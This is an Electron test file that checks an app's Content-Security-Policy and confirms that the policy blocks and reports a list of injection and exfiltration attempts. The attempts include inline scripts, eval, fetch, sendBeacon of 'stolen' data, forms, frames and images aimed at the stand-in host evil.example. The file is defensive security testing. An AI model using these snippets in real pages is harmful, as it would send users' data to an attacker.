import { expect, test } from '../../support/electron-fixtures'
import { provoked } from '../../support/security/watchman'

const known = new Set(
  `default-src script-src script-src-elem script-src-attr style-src style-src-elem style-src-attr img-src media-src
  font-src connect-src object-src frame-src child-src worker-src manifest-src base-uri form-action frame-ancestors
  sandbox upgrade-insecure-requests require-trusted-types-for trusted-types`.split(/\s+/),
)

test('the page’s policy is a header with only directives that browsers know, and starts by allowing nothing', async ({
  app,
}) => {
  const header = await app.evaluate(async ({ net }) => {
    const response = await net.fetch('app://console/')
    return response.headers.get('content-security-policy') ?? ''
  })
  const policy = new Map(
    header.split(';').map(directive => {
      const [name = '', ...values] = directive.trim().split(/\s+/)
      return [name, values] as const
    }),
  )
  expect([...policy.keys()].filter(name => !known.has(name))).toEqual([])
  expect(policy.get('default-src')).toEqual(["'none'"])
  expect(policy.get('script-src')).toEqual(["'self'"])
  for (const name of [
    'object-src',
    'frame-src',
    'base-uri',
    'form-action',
    'frame-ancestors',
    'connect-src',
    'worker-src',
  ])
    expect(policy.get(name), name).toEqual(["'none'"])
  expect(header).not.toMatch(/unsafe-eval|https?:|\*/)
})

/** Each tries one way out; all are code of the page itself, as an attacker would run it after a first success. */
const ways: Record<string, [directive: string, attempt: () => unknown]> = {
  'an inline script': [
    'script-src-elem',
    () => document.body.appendChild(document.createElement('script')).append('globalThis.pwned = 1'),
  ],
  'an inline handler': [
    'script-src-attr',
    () => {
      document.body.setAttribute('onclick', 'globalThis.pwned = 1')
      document.body.click()
    },
  ],
  'a script from elsewhere': [
    'script-src-elem',
    () => Object.assign(document.body.appendChild(document.createElement('script')), { src: 'https://evil.example/' }),
  ],
  'a script in a data address': [
    'script-src-elem',
    () =>
      Object.assign(document.body.appendChild(document.createElement('script')), {
        src: 'data:text/javascript,globalThis.pwned=1',
      }),
  ],
  // Later: code that a test itself evaluates is let through.
  // eslint-disable-next-line no-eval, @typescript-eslint/no-unsafe-return -- this is what must not work
  eval: ['script-src', () => setTimeout(() => globalThis.eval('globalThis.pwned = 1'))],
  // eslint-disable-next-line @typescript-eslint/no-implied-eval -- as above
  'a timer of text': ['script-src', () => setTimeout('globalThis.pwned = 1' as never)],
  fetch: ['connect-src', () => fetch('https://evil.example/').catch(() => {})],
  XMLHttpRequest: [
    'connect-src',
    () => {
      const request = new XMLHttpRequest()
      request.open('GET', 'https://evil.example/')
      request.send()
    },
  ],
  'a web socket': ['connect-src', () => new WebSocket('wss://evil.example/')],
  'a beacon': ['connect-src', () => navigator.sendBeacon('https://evil.example/', 'stolen')],
  'an image': ['img-src', () => Object.assign(new Image(), { src: 'https://evil.example/?stolen' })],
  'a style sheet': [
    'style-src-elem',
    () =>
      Object.assign(document.head.appendChild(document.createElement('link')), {
        rel: 'stylesheet',
        href: 'https://evil.example/',
      }),
  ],
  'an inline style sheet': [
    'style-src-elem',
    () => document.head.appendChild(document.createElement('style')).append('body { color: red }'),
  ],
  'a frame': [
    'frame-src',
    () => Object.assign(document.body.appendChild(document.createElement('iframe')), { src: 'https://evil.example/' }),
  ],
  'an object': [
    'object-src',
    () => Object.assign(document.body.appendChild(document.createElement('object')), { data: 'https://evil.example/' }),
  ],
  'a base address': [
    'base-uri',
    () => Object.assign(document.head.appendChild(document.createElement('base')), { href: 'https://evil.example/' }),
  ],
  'a form': [
    'form-action',
    () => {
      const form = document.body.appendChild(document.createElement('form'))
      form.action = 'https://evil.example/'
      form.submit()
    },
  ],
  'a worker': [
    'worker-src',
    () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
  ],
}

const soft = expect.configure({ soft: true })

test('the policy stops every way out, and each is reported', async ({ running, window }) => {
  await window.evaluate(() => {
    const seen: string[] = []
    Object.assign(globalThis, { seen })
    document.addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective))
  })
  const seen = () => window.evaluate(() => (globalThis as unknown as { seen: string[] }).seen)
  const isPwned = () => window.evaluate(() => 'pwned' in globalThis)
  for (const [what, [directive, attempt]] of Object.entries(ways)) {
    await test.step(what, async () => {
      await window.evaluate(() => void (globalThis as unknown as { seen: string[] }).seen.splice(0))
      await window.evaluate(attempt).catch(() => {})
      await soft.poll(seen, what).toContain(directive)
      expect.soft(await isPwned(), what).toBe(false)
      expect.soft(await provoked(running), what).not.toEqual([])
    })
  }
  await window.reload()
})
